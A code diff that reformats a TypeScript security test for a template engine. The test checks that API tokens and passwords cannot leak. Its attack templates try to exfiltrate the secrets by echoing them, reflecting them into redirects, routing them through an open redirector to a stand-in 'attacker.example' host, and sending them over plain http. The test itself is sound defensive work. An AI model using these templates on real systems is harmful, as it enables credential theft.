@@ -32,15 +32,32 @@ const api = (s: HttpHarnessState, path: string): string => `https://api.example.
 const attacker = (s: HttpHarnessState, path: string): string => `https://attacker.example:${s.httpsPort}${path}`;
 
 const ATTACKS: Attack[] = [
-  { label: 'header echoed in body, headers, status text, Location', template: viaHeader('API_TOKEN', 'X-Api-Key: '), u: (s) => api(s, '/hh03/forms') },
-  { label: 'password echoed (URL-encoded, base64, Basic, JSON forms)', template: viaHeader('API_PASSWORD', 'Authorization: Bearer '), u: (s) => api(s, '/hh03/forms') },
+  {
+    label: 'header echoed in body, headers, status text, Location',
+    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
+    u: (s) => api(s, '/hh03/forms'),
+  },
+  {
+    label: 'password echoed (URL-encoded, base64, Basic, JSON forms)',
+    template: viaHeader('API_PASSWORD', 'Authorization: Bearer '),
+    u: (s) => api(s, '/hh03/forms'),
+  },
   {
     label: 'password echoed as PHP JSON, read through json_var',
-    template: '{secret var=t key="API_PASSWORD"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd var=r json_var=j}{$r}|{foreach from=$j key=k item=v}{$k}={$v}\n{/foreach}',
+    template:
+      '{secret var=t key="API_PASSWORD"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd var=r json_var=j}{$r}|{foreach from=$j key=k item=v}{$k}={$v}\n{/foreach}',
     u: (s) => api(s, '/hh03/json'),
   },
-  { label: 'header reflected into a redirect to another origin', template: viaHeader('API_TOKEN', 'X-Api-Key: '), u: (s) => api(s, '/hh03/bounce') },
-  { label: 'password reflected into a redirect to another origin', template: viaHeader('API_PASSWORD', 'X-Api-Key: '), u: (s) => api(s, '/hh03/bounce') },
+  {
+    label: 'header reflected into a redirect to another origin',
+    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
+    u: (s) => api(s, '/hh03/bounce'),
+  },
+  {
+    label: 'password reflected into a redirect to another origin',
+    template: viaHeader('API_PASSWORD', 'X-Api-Key: '),
+    u: (s) => api(s, '/hh03/bounce'),
+  },
   {
     label: 'secret in the query string through an open redirector',
     template: `{secret var=t key="API_TOKEN"}{api endpoint=$u query="k=\`$t\`" var=r resp_header_var=rh http_code_var=c}${DUMP}`,
@@ -53,8 +70,18 @@ const ATTACKS: Attack[] = [
     u: (s) => api(s, `/hh03/open?to=${encodeURIComponent(attacker(s, '/hh03/landing'))}`),
     code: 'E_SECRET_DENIED',
   },
-  { label: 'secret over plain http', template: viaHeader('API_TOKEN', 'X-Api-Key: '), u: (s) => `http://api.example.com:${s.port}/hh03/forms`, code: 'E_SECRET_DENIED' },
-  { label: 'password over plain http', template: viaHeader('API_PASSWORD', 'Authorization: Bearer '), u: (s) => `http://api.example.com:${s.port}/hh03/forms`, code: 'E_SECRET_DENIED' },
+  {
+    label: 'secret over plain http',
+    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
+    u: (s) => `http://api.example.com:${s.port}/hh03/forms`,
+    code: 'E_SECRET_DENIED',
+  },
+  {
+    label: 'password over plain http',
+    template: viaHeader('API_PASSWORD', 'Authorization: Bearer '),
+    u: (s) => `http://api.example.com:${s.port}/hh03/forms`,
+    code: 'E_SECRET_DENIED',
+  },
 ];
 
 /**
@@ -65,7 +92,8 @@ const ATTACKS: Attack[] = [
 function formsOf(values: string[]): { label: string; text: string }[] {
   const out: { label: string; text: string }[] = [];
   for (const [i, v] of values.entries()) {
-    for (const [label, text] of Object.entries(reflectedForms(v))) if (text.length >= 8) out.push({ label: `secret ${i + 1} ${label}`, text });
+    for (const [label, text] of Object.entries(reflectedForms(v)))
+      if (text.length >= 8) out.push({ label: `secret ${i + 1} ${label}`, text });
     out.push({ label: `secret ${i + 1} tail`, text: v.slice(-16) });
   }
   return out;
@@ -82,7 +110,9 @@ function formDecode(url: string): string {
 
 /** What a server received, header values read as the UTF-8 they were sent as. */
 function requestText(r: SeenRequest): string {
-  const headers = Object.entries(r.headers).map(([k, v]) => `${k}: ${Buffer.from(String(v), 'latin1').toString('utf8')}`);
+  const headers = Object.entries(r.headers).map(
+    ([k, v]) => `${k}: ${Buffer.from(String(v), 'latin1').toString('utf8')}`,
+  );
   return [r.url, formDecode(r.url), ...headers, r.body].join('\n');
 }
 
@@ -90,15 +120,29 @@ function leak(text: string, forms: { label: string; text: string }[]): string | 
   return forms.find((f) => text.includes(f.text))?.label;
 }
 
-function judgeAttack(h: HarnessContext, attack: Attack, a: RenderAttempt, forms: { label: string; text: string }[]): Outcome | null {
+function judgeAttack(
+  h: HarnessContext,
+  attack: Attack,
+  a: RenderAttempt,
+  forms: { label: string; text: string }[],
+): Outcome | null {
   const text = `${a.output ?? ''}\n${a.message ?? ''}`;
   const found = leak(text, forms);
-  if (found) return { status: 'escaped', detail: `${attack.label}: the ${found} form came back in the ${a.output !== undefined ? 'output' : 'error'}` };
+  if (found)
+    return {
+      status: 'escaped',
+      detail: `${attack.label}: the ${found} form came back in the ${a.output !== undefined ? 'output' : 'error'}`,
+    };
   if (h.canaries.leaked(text)) return { status: 'escaped', detail: `${attack.label}: a canary value came back` };
-  if (a.code === 'E_UNCAUGHT') return { status: 'escaped', detail: `${attack.label}: a non-template error: ${a.message}` };
-  if (attack.code === undefined && a.output === undefined) return { status: 'escaped', detail: `${attack.label}: expected a response, got ${a.code}: ${a.message}` };
+  if (a.code === 'E_UNCAUGHT')
+    return { status: 'escaped', detail: `${attack.label}: a non-template error: ${a.message}` };
+  if (attack.code === undefined && a.output === undefined)
+    return { status: 'escaped', detail: `${attack.label}: expected a response, got ${a.code}: ${a.message}` };
   if (attack.code !== undefined && a.code !== attack.code) {
-    return { status: 'escaped', detail: `${attack.label}: expected ${attack.code}, got ${a.code ? `${a.code}: ${a.message}` : `output ${JSON.stringify((a.output ?? '').slice(0, 60))}`}` };
+    return {
+      status: 'escaped',
+      detail: `${attack.label}: expected ${attack.code}, got ${a.code ? `${a.code}: ${a.message}` : `output ${JSON.stringify((a.output ?? '').slice(0, 60))}`}`,
+    };
   }
   return null;
 }
@@ -112,7 +156,10 @@ export const HH_SECRETS: SecurityCase[] = [
       const s = harnessHttp();
       const own = h.canaries as OwnSecrets;
       if (own.ownSecretValue === undefined || own.ownPasswordValue === undefined) {
-        return { status: 'escaped', detail: 'the host has no HH-03 secrets (API_TOKEN, API_PASSWORD for api.example.com): nothing was proven' };
+        return {
+          status: 'escaped',
+          detail: 'the host has no HH-03 secrets (API_TOKEN, API_PASSWORD for api.example.com): nothing was proven',
+        };
       }
       const values = [own.ownSecretValue, own.ownPasswordValue];
       const forms = formsOf(values);
@@ -133,9 +180,15 @@ export const HH_SECRETS: SecurityCase[] = [
       if (escapes.length > 0) return { status: 'escaped', detail: escapes.join('; ') };
       const seen = s.seen.slice(before);
       // Control: the listed host did receive both secrets, so the cases above ran with the secret on the wire.
-      const received = values.every((v) => seen.some((r) => r.tls && r.host.startsWith('api.example.com') && requestText(r).includes(v)));
-      if (!received) return { status: 'escaped', detail: 'the listed host never received the secrets: the case proved nothing' };
-      return { status: 'contained', detail: `${ATTACKS.length} attacks, ${forms.length} forms of 2 secrets: none came back or left the listed https origin` };
+      const received = values.every((v) =>
+        seen.some((r) => r.tls && r.host.startsWith('api.example.com') && requestText(r).includes(v)),
+      );
+      if (!received)
+        return { status: 'escaped', detail: 'the listed host never received the secrets: the case proved nothing' };
+      return {
+        status: 'contained',
+        detail: `${ATTACKS.length} attacks, ${forms.length} forms of 2 secrets: none came back or left the listed https origin`,
+      };
     },
   },
 ];
